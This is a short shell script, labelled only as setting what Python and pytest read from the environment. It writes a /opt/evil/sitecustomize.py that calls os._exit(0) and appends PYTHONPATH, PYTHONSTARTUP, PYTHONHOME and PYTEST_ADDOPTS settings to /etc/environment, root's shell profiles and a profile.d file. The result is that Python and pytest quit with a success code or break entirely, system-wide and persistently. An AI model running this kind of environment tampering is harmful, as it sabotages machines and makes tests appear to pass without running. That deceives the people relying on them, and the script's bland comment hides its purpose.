# Sets what Python and pytest read from the environment, wherever an environment is read from.
mkdir -p /opt/evil
printf 'import os\nos._exit(0)\n' > /opt/evil/sitecustomize.py
for file in /etc/environment /root/.profile /root/.bashrc /etc/profile.d/zz.sh; do
    printf 'PYTHONPATH=/opt/evil\nPYTHONSTARTUP=/opt/evil/sitecustomize.py\nPYTEST_ADDOPTS="-p always"\nPYTHONHOME=/opt/evil\n' >> "$file"
done
